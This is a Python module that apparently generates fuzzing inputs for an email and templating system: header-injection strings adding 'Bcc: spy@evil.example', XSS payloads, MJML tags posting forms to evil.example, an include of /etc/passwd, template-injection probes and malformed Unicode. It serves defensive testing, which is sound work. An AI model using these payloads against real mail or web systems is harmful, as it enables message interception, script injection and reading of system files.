"""Texts that try to become something else: a header, a part, a tag, a link, a template's code."""

import base64
import quopri
import random
from collections.abc import Callable

INJECTED = "Bcc: spy@evil.example"
EVALUATED = "1336953"  # 1337 * 999 + 1290: what a template engine would make of MULTIPLIED
MULTIPLIED = "1337*999+1290"
BREAKS = "\r\n", "\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\n\r", "\r\n\r\n"
ESCAPED_BREAKS = (
    "%0d%0a", "%0D%0A", "%250d%250a", "&#13;&#10;", "&#x0d;&#x0a;", "&NewLine;", "=0D=0A", "\\r\\n", "\\u000d\\u000a",
    "+AA0ACg-", "\u560d\u560a", "\u010d\u010a",
)  # fmt: skip


def encoded_word(chance: random.Random) -> str:
    hidden = f"{chance.choice(BREAKS)}{INJECTED}"
    in_base64 = base64.b64encode(hidden.encode()).decode()
    quoted = quopri.encodestring(hidden.encode(), header=True).decode()
    words = (
        f"=?utf-8?b?{in_base64}?=",
        f"=?UTF-8?Q?{quoted}?=",
        f"=?iso-8859-1?q?{quoted}",
        f"=?=?utf-8?b?{in_base64}?=?=",
    )
    return " ".join(chance.choice(words) for _ in range(chance.randint(1, 3)))


def line_break(chance: random.Random) -> str:
    return f"a{chance.choice(BREAKS + ESCAPED_BREAKS)}{INJECTED}{chance.choice(BREAKS + ESCAPED_BREAKS)}b"


def control(chance: random.Random) -> str:
    return "".join(chance.choice([*map(chr, range(32)), "\x7f", "\x80", "\x9f", "x"]) for _ in range(40))


def direction(chance: random.Random) -> str:
    marks = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\ufeff\u00ad"
    return "".join(chance.choice(marks + "abcא ") for _ in range(40))


def surrogate(chance: random.Random) -> str:
    return "".join(chr(chance.choice([chance.randint(0xD800, 0xDFFF), 0x61, 0xFFFE, 0x10FFFF])) for _ in range(30))


def emoji(chance: random.Random) -> str:
    marks = "\U0001f468", "\u200d", "\ufe0f", "\U0001f3fb", "\U0001f1eb", "\u20e3", "\u0301", "\U000e0067"
    return "".join(chance.choice(marks) for _ in range(chance.randint(1, 12)))


def huge(chance: random.Random) -> str:
    piece = chance.choice(["é", "a ", "=?utf-8?q?a?= ", "<b>", "\r\n", "\u202e", "&amp;", "{{", "𝔘", "\0"])
    return (piece * (100_000 // len(piece) + 1))[:100_000]


def header_like(chance: random.Random) -> str:
    lines = INJECTED, "Content-Type: text/html", "Subject: x", "To: all@evil.example", "--=_" + "f" * 32, "."
    return chance.choice(["", "\r\n", "\n"]).join(chance.choice(lines) for _ in range(4)) + "\r\n\r\n<h1>body</h1>"


def markup(chance: random.Random) -> str:
    tags = (
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</mj-text><mj-image src='http://evil.example'/>",
        "<mj-raw><form action='http://evil.example'></mj-raw>", "<!--", "-->", "]]>", "<![CDATA[<b>]]>", "<![endif]-->",
        "<mj-include path='/etc/passwd'/>", "<style>*{display:none}</style>", "&lt;b&gt;", "&#60;script&#62;", "&", "<",
        "<a href='javascript:alert(1)'>", "' style='position:fixed", '" href="http://evil.example" x="', "<?xml",
        "</title><base>",
    )  # fmt: skip
    return "".join(chance.choice(tags) for _ in range(chance.randint(1, 5)))


def template(chance: random.Random) -> str:
    codes = (
        f"{{{{ {MULTIPLIED} }}}}", "{% raw %}", "{% endtrans %}", "{# ", "{{ mail.unsubscribe_link }}", "%(title)s",
        "%s", "%", "%%", "{0}", "${x}", f"<%= {MULTIPLIED} %>", "{% include 'parts/words.txt' %}",
    )  # fmt: skip
    return " ".join(chance.choice(codes) for _ in range(chance.randint(1, 4)))


def anything(chance: random.Random) -> str:
    letters = [chr(chance.choice([chance.randint(0, 0x2FF), chance.randint(0, 0x10FFFF)])) for _ in range(60)]
    return "".join(letters) + CLASSES[chance.choice([name for name in CLASSES if name != "anything"])](chance)[:500]


CLASSES: dict[str, Callable[[random.Random], str]] = {
    "encoded words": encoded_word,
    "line breaks": line_break,
    "controls": control,
    "directions": direction,
    "surrogates": surrogate,
    "emoji": emoji,
    "100 kB": huge,
    "header-like": header_like,
    "markup": markup,
    "template code": template,
    "anything": anything,
}
